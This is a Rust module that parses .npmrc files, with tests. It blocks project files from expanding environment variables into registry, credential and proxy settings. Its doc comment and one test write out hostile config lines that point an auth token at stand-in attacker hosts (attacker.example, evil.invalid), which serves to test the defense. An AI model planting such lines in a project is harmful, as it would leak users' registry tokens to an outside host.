//! Our own `.npmrc` reader.
//!
//! Generic INI crates are the wrong tool: they split `//host/:_authToken=…` or
//! `@scope:registry=…` at the wrong character, treat `[` as a section everywhere, or drop
//! `key[]=` arrays. This follows what npm's `ini` package does, line by line:
//!
//! - blank lines and lines starting with `;` or `#` are skipped;
//! - `key=value` splits at the *first* `=`; a line without `=` sets the key to `true`;
//! - a value in double quotes is a JSON string, in single quotes is taken literally; an unquoted
//!   value ends at the first unescaped `;` or `#` (`\;`, `\#`, `\\` escape them);
//! - `key[]=value` appends to an array;
//! - `[section]` starts a section; npm ignores sectioned keys, so do we (with a warning).
//!
//! Then npm's `${VAR}` expansion (`${VAR?}` expands to nothing when unset, `\${VAR}` is literal)
//! is applied to keys and values, **except** in a project-level file, where keys are never
//! expanded and values of registry, credential and proxy keys are not either. A cloned
//! repository controls its `.npmrc`; with expansion it could write
//! `//attacker.example/:_authToken=${NPM_TOKEN}` and point `registry` there, and `install`
//! would hand it your token.

use std::collections::BTreeMap;

use crate::env_vars::Environment;

/// How far a file is trusted with the user's environment.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileTrust {
    /// The user's own files (user, global config): full `${VAR}` expansion.
    Trusted,
    /// A project's `.npmrc`: no expansion in keys, none in registry/credential/proxy values.
    Project,
}

/// A configuration value: a string or (from `key[]=`) a list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NpmrcValue {
    /// `key=value`
    Scalar(String),
    /// `key[]=a`, `key[]=b`
    List(Vec<String>),
}

impl NpmrcValue {
    /// The value as one string (a list's last element).
    pub fn as_scalar(&self) -> Option<&str> {
        match self {
            NpmrcValue::Scalar(s) => Some(s),
            NpmrcValue::List(items) => items.last().map(String::as_str),
        }
    }

    /// The value as a list (a scalar is a one-element list).
    pub fn as_list(&self) -> Vec<&str> {
        match self {
            NpmrcValue::Scalar(s) => vec![s.as_str()],
            NpmrcValue::List(items) => items.iter().map(String::as_str).collect(),
        }
    }
}

/// The result of reading one `.npmrc` text.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ParsedNpmrc {
    /// Keys and their final values.
    pub entries: BTreeMap<String, NpmrcValue>,
    /// Things the user should know (ignored lines, expansions refused).
    pub warnings: Vec<String>,
}

/// Whether `key` names a registry, a credential or a proxy: the keys whose values a project file
/// may not fill from the environment.
pub fn is_sensitive_key(key: &str) -> bool {
    const SENSITIVE: [&str; 16] = [
        "registry",
        "_auth",
        "_authToken",
        "_password",
        "username",
        "email",
        "always-auth",
        "certfile",
        "keyfile",
        "cert",
        "key",
        "ca",
        "cafile",
        "proxy",
        "https-proxy",
        "noproxy",
    ];
    key.starts_with("//")
        || key.ends_with(":registry")
        || SENSITIVE.contains(&key)
        || key == "http-proxy"
}

/// Parses `.npmrc` text. `origin` names the file in warnings.
pub fn parse_npmrc(text: &str, origin: &str, trust: FileTrust, env: &Environment) -> ParsedNpmrc {
    let mut parsed = ParsedNpmrc::default();
    let mut section: Option<String> = None;
    for line in text.split(['\r', '\n']) {
        let line = line.trim();
        if line.is_empty() || line.starts_with(';') || line.starts_with('#') {
            continue;
        }
        if line.starts_with('[') && line.ends_with(']') {
            section = Some(line[1..line.len() - 1].to_owned());
            continue;
        }
        let (raw_key, raw_value) = match line.split_once('=') {
            Some((k, v)) => (k, Some(v)),
            None => (line, None),
        };
        let key = unquote(raw_key);
        if let Some(section) = &section {
            parsed.warnings.push(format!(
                "{origin}: ignoring {key:?} in section [{section}]: npm does not read sections"
            ));
            continue;
        }
        let (key, is_array) = match key.strip_suffix("[]") {
            Some(base) if !base.is_empty() => (base.to_owned(), true),
            _ => (key, false),
        };
        let key = match trust {
            FileTrust::Trusted => expand_env(&key, env),
            FileTrust::Project => key,
        };
        if key.is_empty() || key == "__proto__" {
            continue;
        }
        let value = raw_value.map_or_else(|| "true".to_owned(), unquote);
        let value = if trust == FileTrust::Project && is_sensitive_key(&key) {
            if value.contains("${") {
                parsed.warnings.push(format!(
                    "{origin}: not expanding environment variables in {key:?}: a project .npmrc may not \
                     fill registry, credential or proxy settings from your environment \
                     (hint: put this line in your user .npmrc)"
                ));
            }
            value
        } else {
            expand_env(&value, env)
        };
        let slot = parsed.entries.entry(key);
        match (slot, is_array) {
            (std::collections::btree_map::Entry::Vacant(v), false) => {
                v.insert(NpmrcValue::Scalar(value));
            }
            (std::collections::btree_map::Entry::Vacant(v), true) => {
                v.insert(NpmrcValue::List(vec![value]));
            }
            (std::collections::btree_map::Entry::Occupied(mut o), array) => {
                // Like `ini`: once a key is an array, later plain assignments append to it too.
                match o.get_mut() {
                    NpmrcValue::List(items) => items.push(value),
                    scalar if array => {
                        let first = scalar.as_scalar().unwrap_or_default().to_owned();
                        *scalar = NpmrcValue::List(vec![first, value]);
                    }
                    scalar => *scalar = NpmrcValue::Scalar(value),
                }
            }
        }
    }
    parsed
}

/// `ini`'s value reading: quotes, escapes and inline comments.
fn unquote(raw: &str) -> String {
    let text = raw.trim();
    let quoted_with = |q: char| text.len() >= 2 && text.starts_with(q) && text.ends_with(q);
    if quoted_with('\'') {
        return text[1..text.len() - 1].to_owned();
    }
    if quoted_with('"') {
        return serde_json::from_str::<String>(text).unwrap_or_else(|_| text.to_owned());
    }
    let mut out = String::with_capacity(text.len());
    let mut escaped = false;
    for c in text.chars() {
        if escaped {
            if !matches!(c, '\\' | ';' | '#') {
                out.push('\\');
            }
            out.push(c);
            escaped = false;
        } else if c == ';' || c == '#' {
            break;
        } else if c == '\\' {
            escaped = true;
        } else {
            out.push(c);
        }
    }
    if escaped {
        out.push('\\');
    }
    out.trim().to_owned()
}

/// npm's `${VAR}` expansion. An unset variable stays as written (`${VAR}`), or becomes empty with
/// the `?` modifier (`${VAR?}`). Backslashes before `$` escape it: an odd run keeps the reference
/// literally, and each pair of backslashes stands for one.
pub fn expand_env(text: &str, env: &Environment) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("${") {
        let before = &rest[..start];
        let slashes = before.len() - before.trim_end_matches('\\').len();
        let after = &rest[start + 2..];
        let Some(close) = after.find('}') else {
            break;
        };
        let inner = &after[..close];
        let (name, optional) = match inner.strip_suffix('?') {
            Some(name) => (name, true),
            None => (inner, false),
        };
        if name.is_empty() || name.contains(['$', '{', '?']) {
            // Not a reference: keep the `${` and look further on.
            out.push_str(&rest[..start + 2]);
            rest = after;
            continue;
        }
        out.push_str(&before[..before.len() - slashes]);
        let reference = &rest[start..start + 2 + close + 1];
        out.push_str(&"\\".repeat(slashes / 2));
        if slashes % 2 == 1 {
            out.push_str(reference);
        } else {
            match env.get(name) {
                Some(value) => out.push_str(value),
                None if optional => {}
                None => {
                    out.push_str("${");
                    out.push_str(name);
                    out.push('}');
                }
            }
        }
        rest = &after[close + 1..];
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;

    fn env() -> Environment {
        Environment::from_pairs([
            ("TOKEN", "s3cret"),
            ("HOST", "127.0.0.1:4873"),
            ("EMPTY", ""),
        ])
    }

    fn scalar(parsed: &ParsedNpmrc, key: &str) -> Option<String> {
        parsed
            .entries
            .get(key)
            .and_then(|v| v.as_scalar())
            .map(str::to_owned)
    }

    #[test]
    fn keys_with_colons_and_slashes() {
        let text = "registry=http://127.0.0.1:4873/\n\
                    @scope:registry = http://127.0.0.1:4874/\n\
                    //127.0.0.1:4873/:_authToken=abc123\n\
                    //127.0.0.1:4873/sub/path/:_auth=dXNlcjpwYXNz\n";
        let p = parse_npmrc(text, ".npmrc", FileTrust::Trusted, &env());
        assert_eq!(scalar(&p, "registry").unwrap(), "http://127.0.0.1:4873/");
        assert_eq!(
            scalar(&p, "@scope:registry").unwrap(),
            "http://127.0.0.1:4874/"
        );
        assert_eq!(
            scalar(&p, "//127.0.0.1:4873/:_authToken").unwrap(),
            "abc123"
        );
        assert_eq!(
            scalar(&p, "//127.0.0.1:4873/sub/path/:_auth").unwrap(),
            "dXNlcjpwYXNz"
        );
    }

    #[test]
    fn comments_quotes_and_bare_keys() {
        let text = "; a comment\n# another\n\n  a = 1 ; trailing comment\n\
                    b = \"quoted ; not a comment\"\nc='single # kept'\nd=esc\\;aped\\#x\n\
                    e=\"bad json\nflag\nf=\"\\u0041\\n\"\ng=x=y\r\nh=back\\slash\n";
        let p = parse_npmrc(text, ".npmrc", FileTrust::Trusted, &env());
        assert_eq!(scalar(&p, "a").unwrap(), "1");
        assert_eq!(scalar(&p, "b").unwrap(), "quoted ; not a comment");
        assert_eq!(scalar(&p, "c").unwrap(), "single # kept");
        assert_eq!(scalar(&p, "d").unwrap(), "esc;aped#x");
        assert_eq!(scalar(&p, "e").unwrap(), "\"bad json");
        assert_eq!(scalar(&p, "flag").unwrap(), "true");
        assert_eq!(scalar(&p, "f").unwrap(), "A\n");
        assert_eq!(scalar(&p, "g").unwrap(), "x=y");
        assert_eq!(scalar(&p, "h").unwrap(), "back\\slash");
    }

    #[test]
    fn arrays_and_last_assignment_wins() {
        let text = "ca[]=one\nca[]=two\nx=1\nx=2\nca=three\n";
        let p = parse_npmrc(text, ".npmrc", FileTrust::Trusted, &env());
        assert_eq!(
            p.entries["ca"],
            NpmrcValue::List(vec!["one".into(), "two".into(), "three".into()])
        );
        assert_eq!(scalar(&p, "x").unwrap(), "2");
    }

    #[test]
    fn sections_are_ignored_with_a_warning() {
        let p = parse_npmrc("a=1\n[sec]\nb=2\n", "/p/.npmrc", FileTrust::Trusted, &env());
        assert_eq!(scalar(&p, "a").unwrap(), "1");
        assert!(!p.entries.contains_key("b"));
        assert_eq!(
            p.warnings,
            ["/p/.npmrc: ignoring \"b\" in section [sec]: npm does not read sections"]
        );
    }

    #[test]
    fn env_expansion_rules() {
        let e = env();
        assert_eq!(expand_env("a ${TOKEN} b", &e), "a s3cret b");
        assert_eq!(expand_env("${MISSING}", &e), "${MISSING}");
        assert_eq!(expand_env("x${MISSING?}y", &e), "xy");
        assert_eq!(expand_env("${EMPTY}", &e), "");
        assert_eq!(expand_env("\\${TOKEN}", &e), "${TOKEN}");
        assert_eq!(expand_env("\\\\${TOKEN}", &e), "\\s3cret");
        assert_eq!(expand_env("\\\\\\${TOKEN}", &e), "\\${TOKEN}");
        assert_eq!(expand_env("${unclosed", &e), "${unclosed");
        assert_eq!(expand_env("${}${TOKEN}", &e), "${}s3cret");
        assert_eq!(expand_env("//${HOST}/:x", &e), "//127.0.0.1:4873/:x");
    }

    #[test]
    fn trusted_files_expand_keys_and_credentials() {
        let text = "//${HOST}/:_authToken=${TOKEN}\ncache=${TOKEN}/cache\n";
        let p = parse_npmrc(text, "~/.npmrc", FileTrust::Trusted, &env());
        assert_eq!(
            scalar(&p, "//127.0.0.1:4873/:_authToken").unwrap(),
            "s3cret"
        );
        assert_eq!(scalar(&p, "cache").unwrap(), "s3cret/cache");
        assert!(p.warnings.is_empty());
    }

    #[test]
    fn project_files_never_expand_credentials_registries_or_proxies() {
        let text = "//evil.invalid/:_authToken=${TOKEN}\n\
                    registry=http://127.0.0.1:9/${TOKEN}\n\
                    @s:registry=http://127.0.0.1:9/${TOKEN}\n\
                    https-proxy=http://${TOKEN}@127.0.0.1:9/\n\
                    _auth=${TOKEN}\n\
                    //${HOST}/:_authToken=x\n\
                    cache=/tmp/${TOKEN}\n";
        let p = parse_npmrc(text, "/repo/.npmrc", FileTrust::Project, &env());
        for (key, value) in &p.entries {
            if key != "cache" {
                assert!(
                    !value.as_scalar().unwrap().contains("s3cret")
                        && !key.contains("127.0.0.1:4873"),
                    "{key} = {value:?}"
                );
            }
        }
        assert_eq!(
            scalar(&p, "//evil.invalid/:_authToken").unwrap(),
            "${TOKEN}"
        );
        assert_eq!(
            scalar(&p, "registry").unwrap(),
            "http://127.0.0.1:9/${TOKEN}"
        );
        assert!(
            p.entries.contains_key("//${HOST}/:_authToken"),
            "keys are not expanded"
        );
        assert_eq!(
            scalar(&p, "cache").unwrap(),
            "/tmp/s3cret",
            "other keys still expand"
        );
        assert_eq!(p.warnings.len(), 5);
        assert_eq!(
            p.warnings[0],
            "/repo/.npmrc: not expanding environment variables in \"//evil.invalid/:_authToken\": \
             a project .npmrc may not fill registry, credential or proxy settings from your \
             environment (hint: put this line in your user .npmrc)"
        );
    }
}
